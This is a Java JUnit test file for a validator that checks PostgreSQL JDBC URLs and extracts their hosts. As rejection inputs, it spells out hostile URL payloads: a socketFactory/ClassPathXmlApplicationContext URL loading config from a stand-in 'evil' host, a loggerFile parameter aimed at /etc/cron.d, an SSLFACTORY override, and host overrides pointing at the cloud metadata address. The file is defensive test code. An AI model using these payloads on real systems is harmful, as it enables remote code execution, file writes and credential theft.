package dev.pacer.ingest.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class JdbcUrlsTest {
    @Test
    void acceptsOrdinaryJdbcUrls() {
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp:5432/northwind")).isNull();
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/northwind?ssl=true&sslmode=verify-full")).isNull();
    }

    @Test
    void refusesWhatIsNotAJdbcUrl() {
        assertThat(JdbcUrls.problem("")).contains("JDBC URL");
        assertThat(JdbcUrls.problem("http://erp/northwind")).contains("starting with jdbc:");
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db\nx")).isNotNull();
    }

    @Test
    void refusesDriverParametersThatLoadClassesOrFiles() {
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db?socketFactory=org.springframework.context.support."
                + "ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml"))
                .contains("'socketFactory'");
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db?ssl=true&SSLFACTORY=x.Y")).contains("SSLFACTORY");
        assertThat(JdbcUrls.problem("jdbc:postgresql://erp/db?loggerFile=/etc/cron.d/x")).contains("loggerFile");
    }

    @Test
    void hostsAreReadAsPostgresqlsDriverReadsThem() {
        assertThat(JdbcUrls.hosts("jdbc:postgresql://ERP.example.com:5432/northwind"))
                .containsExactly("ERP.example.com");
        assertThat(JdbcUrls.hosts("jdbc:postgresql://a.example.com:5432,b.example.com:5433/db"))
                .containsExactly("a.example.com", "b.example.com");
        assertThat(JdbcUrls.hosts("jdbc:postgresql://[fd00::7]:5432/db")).containsExactly("[fd00::7]");
        assertThat(JdbcUrls.hosts("jdbc:postgresql:northwind")).isEqualTo(List.of("localhost"));
        assertThat(JdbcUrls.hosts("jdbc:postgresql:///northwind")).isEqualTo(List.of("localhost"));
    }

    @Test
    void aHostParameterOverridesTheHostBeforeThePath() {
        assertThat(JdbcUrls.hosts("jdbc:postgresql://erp.example.com/db?host=169.254.169.254"))
                .containsExactly("169.254.169.254");
        assertThat(JdbcUrls.hosts("jdbc:postgresql://erp.example.com/db?PGHOST=169.254.169.254"))
                .containsExactly("169.254.169.254");
    }

    @Test
    void urlsOfOtherDriversHaveNoHostsThatCanBeChecked() {
        assertThat(JdbcUrls.hosts("jdbc:mysql://erp.example.com/db")).isNull();
    }
}
